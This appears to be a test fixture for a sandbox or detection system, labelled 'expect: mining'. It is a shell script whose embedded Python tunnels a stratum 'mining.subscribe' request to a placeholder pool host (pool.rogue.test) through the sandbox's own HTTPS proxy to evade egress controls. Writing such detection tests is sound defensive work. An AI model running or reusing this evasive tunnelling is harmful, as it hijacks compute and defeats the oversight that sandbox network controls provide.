#!/bin/sh
# expect: mining
# why: evasive path: stratum tunnelled through an HTTP CONNECT to the sandbox's own proxy
/usr/bin/python3 - <<'PY'
import os, socket, urllib.parse
proxy = urllib.parse.urlparse(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "http://127.0.0.1:1")
s = socket.create_connection((proxy.hostname, proxy.port), timeout=3)
s.sendall(b"CONNECT pool.rogue.test:443 HTTP/1.1\r\nHost: pool.rogue.test:443\r\n\r\n")
try:
    s.recv(200)
    s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n')
    s.recv(100)
except Exception: pass
PY
